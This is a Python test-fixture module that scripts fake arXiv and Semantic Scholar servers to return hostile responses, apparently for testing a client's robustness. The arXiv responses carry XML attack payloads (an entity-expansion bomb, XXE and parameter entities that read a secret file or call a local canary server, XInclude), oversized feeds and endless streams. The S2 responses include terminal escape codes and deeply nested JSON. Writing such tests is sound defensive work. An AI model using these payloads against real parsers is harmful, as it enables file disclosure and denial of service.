"""Scripted stand-ins and the custom answers the service cases of the corpus name.

The stand-ins of ``tests/standins`` answer like the real services and inject their own
faults; the subclasses here follow a script instead, one step per request: a stand-in
fault, ``"ok"`` (the real answer) or the name of a custom answer below.
"""

from __future__ import annotations

import json
import threading
from collections import deque
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.reliability.corpus import SECRET
from tests.standins.arxiv_server import _ATOM_TYPE as ATOM
from tests.standins.arxiv_server import FAULTS as ARXIV_FAULTS
from tests.standins.arxiv_server import ArxivStandIn, sample_paper
from tests.standins.s2_server import S2StandIn


@dataclass(frozen=True)
class Context:
    """Where the XML attacks point: a secret local file and a canary server."""

    secret_uri: str
    canary_url: str


@contextmanager
def canary() -> Iterator[list[str]]:
    """An HTTP server on 127.0.0.1 that records every path asked of it (none should be)."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            hits.append(self.path)
            body = b'<!ENTITY leak "CANARY-REACHED">'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.daemon = True
    thread.start()
    hits.append(f"http://127.0.0.1:{server.server_address[1]}")  # hits[0]: the base URL
    try:
        yield hits
    finally:
        server.shutdown()
        server.server_close()


# --------------------------------------------------------------------------- arXiv

ARXIV_PAPERS = {
    **{f"2001.0000{i}": sample_paper(f"2001.0000{i}") for i in range(1, 5)},
    "2001.00009": sample_paper("2001.00009", 3),
    "2001.00099": sample_paper("2001.00099"),
}

_FEED_OPEN = (
    '<feed xmlns="http://www.w3.org/2005/Atom" '
    'xmlns:opensearch="http://a9.com/-/spec/opensearch/1.1/" '
    'xmlns:arxiv="http://arxiv.org/schemas/atom">'
    "<opensearch:totalResults>1</opensearch:totalResults>"
    "<opensearch:startIndex>0</opensearch:startIndex>"
    "<opensearch:itemsPerPage>1</opensearch:itemsPerPage>"
)


def _entry(title: str) -> str:
    return (
        "<entry><id>http://arxiv.org/abs/2001.00001v1</id>"
        f"<title>{title}</title><summary>{title}</summary>"
        "<published>2020-01-01T00:00:00Z</published><updated>2020-01-01T00:00:00Z</updated>"
        "<author><name>Ada Lovelace</name></author></entry>"
    )


def _doctype_feed(doctype: str, title: str) -> bytes:
    return f'<?xml version="1.0"?>\n{doctype}\n{_FEED_OPEN}{_entry(title)}</feed>'.encode()


def _bomb(standin: ArxivStandIn, query: Mapping[str, str], ctx: Context) -> tuple[int, bytes]:
    lol = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    return 200, _doctype_feed(f'<!DOCTYPE feed [<!ENTITY lol0 "lol">{lol}]>', "&lol9;")


def _xxe_file(standin: ArxivStandIn, query: Mapping[str, str], ctx: Context) -> tuple[int, bytes]:
    doctype = f'<!DOCTYPE feed [<!ENTITY xxe SYSTEM "{ctx.secret_uri}">]>'
    return 200, _doctype_feed(doctype, "&xxe;")


def _xxe_net(standin: ArxivStandIn, query: Mapping[str, str], ctx: Context) -> tuple[int, bytes]:
    doctype = (
        f'<!DOCTYPE feed SYSTEM "{ctx.canary_url}/evil.dtd" '
        f'[<!ENTITY net SYSTEM "{ctx.canary_url}/entity">]>'
    )
    return 200, _doctype_feed(doctype, "&net; &leak;")


def _param_entity(
    standin: ArxivStandIn, query: Mapping[str, str], ctx: Context
) -> tuple[int, bytes]:
    doctype = f'<!DOCTYPE feed [<!ENTITY % remote SYSTEM "{ctx.canary_url}/p.dtd"> %remote;]>'
    return 200, _doctype_feed(doctype, "&leak;")


def _real(standin: ArxivStandIn, query: Mapping[str, str]) -> bytes:
    status, body, _page, _total = ArxivStandIn.answer(standin, query)
    assert status == 200
    return body


def _xinclude(standin: ArxivStandIn, query: Mapping[str, str], ctx: Context) -> tuple[int, bytes]:
    body = _real(standin, query).decode()
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="{ctx.secret_uri}" parse="text"/>'
    )
    return 200, body.replace("<title>A study of", f"<title>{include}A study of").encode()


def _pad_abstracts(body: bytes, size: int) -> bytes:
    return body.replace(b"</summary>", b" " + b"x" * size + b"</summary>")


def _huge_feed(standin: ArxivStandIn, query: Mapping[str, str], ctx: Context) -> tuple[int, bytes]:
    return 200, _pad_abstracts(_real(standin, query), 5_000_000)


def _huge_node(standin: ArxivStandIn, query: Mapping[str, str], ctx: Context) -> tuple[int, bytes]:
    return 200, _pad_abstracts(_real(standin, query), 20_000_000)


def _zero(standin: ArxivStandIn, query: Mapping[str, str], ctx: Context) -> tuple[int, bytes]:
    return 200, standin.feed(query, [], 0, 0, int(query.get("max_results", "10")))


def _zero_total(standin: ArxivStandIn, query: Mapping[str, str], ctx: Context) -> tuple[int, bytes]:
    asked = len(query.get("id_list", "").split(","))
    return 200, standin.feed(query, [], asked, 0, int(query.get("max_results", "10")))


def _wrong_paper(
    standin: ArxivStandIn, query: Mapping[str, str], ctx: Context
) -> tuple[int, bytes]:
    return 200, _real(standin, {**query, "id_list": "2001.00099"})


ArxivAnswer = Callable[[ArxivStandIn, Mapping[str, str], Context], tuple[int, bytes]]

ARXIV_ANSWERS: dict[str, ArxivAnswer] = {
    "zero": _zero,
    "zero-total": _zero_total,
    "bomb": _bomb,
    "xxe-file": _xxe_file,
    "xxe-net": _xxe_net,
    "param-entity": _param_entity,
    "xinclude": _xinclude,
    "huge-feed": _huge_feed,
    "huge-node": _huge_node,
    "wrong-paper": _wrong_paper,
}
"""Custom arXiv answers by name (status, body)."""


STREAMS = ("drip", "endless")
"""Scripted answers sent as a stream: ``drip`` sends the real feed a byte every 50 ms,
``endless`` announces 10 GB and sends zeros as fast as it can; both until the client
hangs up or the stand-in stops."""


class ScriptedArxiv(ArxivStandIn):
    """The arXiv stand-in answering request N with step N of ``script``."""

    def __init__(self, script: Iterable[str], ctx: Context, **options: Any) -> None:
        super().__init__(ARXIV_PAPERS, **options)
        self.script = deque(script)
        for step in self.script:
            assert step in ("ok", *STREAMS) or step in ARXIV_FAULTS or step in ARXIV_ANSWERS, step
        self.ctx = ctx
        self._custom: str | None = None
        self._stream: str | None = None

    def start(self) -> ScriptedArxiv:
        """Serve, with the two streaming answers added to this server's handler class."""
        super().start()
        assert self._server is not None
        handler = self._server.RequestHandlerClass  # a subclass made for this server only
        plain = handler._send  # type: ignore[attr-defined]
        scripted = self

        def send(h, status, body, content_type=ATOM, headers=None, length=None):  # type: ignore[no-untyped-def]
            stream, scripted._stream = scripted._stream, None
            if stream is None:
                return plain(h, status, body, content_type, headers, length)
            h.close_connection = True
            h.send_response(200)
            h.send_header("Content-Type", content_type)
            h.send_header("Content-Length", str(len(body) if stream == "drip" else 10**10))
            h.end_headers()
            try:
                while not scripted._closing.is_set():
                    if stream == "drip":
                        for i in range(len(body)):
                            h.wfile.write(body[i : i + 1])
                            h.wfile.flush()
                            if scripted._closing.wait(0.05):
                                return None
                        return None
                    h.wfile.write(bytes(1 << 20))
            except OSError:  # the client hung up: what it should do
                return None
            return None

        handler._send = send  # type: ignore[attr-defined]
        return self

    def _take(self, query: dict[str, str]) -> str | None:
        with self._lock:
            self.requests.append(query)
            step = self.script.popleft() if self.script else "ok"
        if step in ARXIV_FAULTS:
            return step
        if step in STREAMS:
            self._stream = step
            return None
        self._custom = None if step == "ok" else step
        return None

    def answer(self, query: Mapping[str, str]) -> tuple[int, bytes, list[Any], int]:
        custom, self._custom = self._custom, None
        if custom is None:
            return super().answer(query)
        status, body = ARXIV_ANSWERS[custom](self, query, self.ctx)
        return status, body, [], 0


# --------------------------------------------------------------------------- Semantic Scholar


def s2_paper(n: int, **fields: Any) -> dict[str, Any]:
    """A paper as S2 answers it (every field the client asks for)."""
    paper: dict[str, Any] = {
        "paperId": f"{n:040x}",
        "title": f"Paper {n}",
        "year": 2021,
        "venue": "",
        "publicationVenue": None,
        "externalIds": {"ArXiv": f"2101.{n:05d}", "CorpusId": n},
        "citationCount": 3,
        "referenceCount": 0,
        "references": [],
    }
    paper.update(fields)
    return paper


S2_PAPERS = {f"ARXIV:2101.0000{n}": s2_paper(n) for n in (1, 2)}


def _dumps(data: Any) -> bytes:
    return json.dumps(data).encode()


def _batch_ids(body: Any) -> list[str]:
    return list(body["ids"]) if isinstance(body, dict) else []


def _surrogates(s2: S2StandIn, body: Any) -> tuple[int, dict[str, str], bytes]:
    # Written by hand: json.dumps would escape the surrogates correctly as pairs.
    one = (
        '{"paperId": "p\\ud800%d", "title": "bad \\ud800 title \\ud83d\\ude00", '
        '"venue": "\\udfff", "externalIds": {"DOI": "10.1/\\ud800", "ArXiv": "2101.0000%d"}, '
        '"referenceCount": 1, "references": [{"paperId": "r", "title": "\\ud83d"}]}'
    )
    items = ", ".join(one % (i, i + 1) for i in range(len(_batch_ids(body))))
    return 200, {}, f"[{items}]".encode()


def _controls(s2: S2StandIn, body: Any) -> tuple[int, dict[str, str], bytes]:
    papers = [
        {**s2.papers[i], "title": "Evil \x01\x1b[31mred\x1b[0m \ufffe title", "venue": "V\x07"}
        for i in _batch_ids(body)
    ]
    return 200, {}, _dumps(papers)


def _retry_after(value: str) -> Callable[[S2StandIn, Any], tuple[int, dict[str, str], bytes]]:
    def answer(s2: S2StandIn, body: Any) -> tuple[int, dict[str, str], bytes]:
        return 429, {"Retry-After": value}, b'{"message": "Too Many Requests"}'

    return answer


def _fixed(
    status: int, payload: bytes
) -> Callable[[S2StandIn, Any], tuple[int, dict[str, str], bytes]]:
    def answer(s2: S2StandIn, body: Any) -> tuple[int, dict[str, str], bytes]:
        return status, {}, payload

    return answer


def _each_paper(**fields: Any) -> Callable[[S2StandIn, Any], tuple[int, dict[str, str], bytes]]:
    def answer(s2: S2StandIn, body: Any) -> tuple[int, dict[str, str], bytes]:
        papers = [{**s2.papers[i], **fields} for i in _batch_ids(body)]
        return 200, {}, _dumps(papers)

    return answer


def _nan(s2: S2StandIn, body: Any) -> tuple[int, dict[str, str], bytes]:
    text = json.dumps([s2.papers[i] for i in _batch_ids(body)])
    return (
        200,
        {},
        text.replace('"year": 2021', '"year": NaN')
        .replace('"citationCount": 3', '"citationCount": Infinity')
        .encode(),
    )


S2Answer = Callable[[S2StandIn, Any], tuple[int, dict[str, str], bytes]]

S2_ANSWERS: dict[str, S2Answer] = {
    "surrogates": _surrogates,
    "controls": _controls,
    "retry-after-huge": _retry_after("1000000"),
    "retry-after-date": _retry_after("Wed, 21 Oct 2015 07:28:00 GMT"),
    "retry-after-garbage": _retry_after("soon"),
    "retry-after-negative": _retry_after("-5"),
    "deep-json": _fixed(200, b"[" * 100_000 + b"]" * 100_000),
    "nan": _nan,
    "html200": _fixed(200, b"<!DOCTYPE html><html><body>Service Unavailable</body></html>"),
    "empty": _fixed(200, b""),
    "null": _fixed(200, b"null"),
    "wrong-types": _each_paper(title=123, year="2020"),
    "extra-fields": _each_paper(foo=None, bar={"x": [1, 2, None]}, tldr=None),
}
"""Custom Semantic Scholar answers by name (status, headers, body)."""


class ScriptedS2(S2StandIn):
    """The Semantic Scholar stand-in answering request N with step N of ``script``."""

    def __init__(self, script: Iterable[str], **options: Any) -> None:
        super().__init__(S2_PAPERS, **options)
        self.script = deque(script)

    def _next_fault(self) -> str | None:
        with self._lock:
            return self.script.popleft() if self.script else "ok"

    def answer(
        self, method: str, path: str, query: Mapping[str, str], body: Any, fault: str | None
    ) -> tuple[int, dict[str, str], bytes]:
        if fault in S2_ANSWERS:
            return S2_ANSWERS[fault](self, body)
        return super().answer(method, path, query, body, None if fault == "ok" else fault)


__all__ = ["ARXIV_ANSWERS", "S2_ANSWERS", "SECRET", "Context", "ScriptedArxiv", "ScriptedS2"]
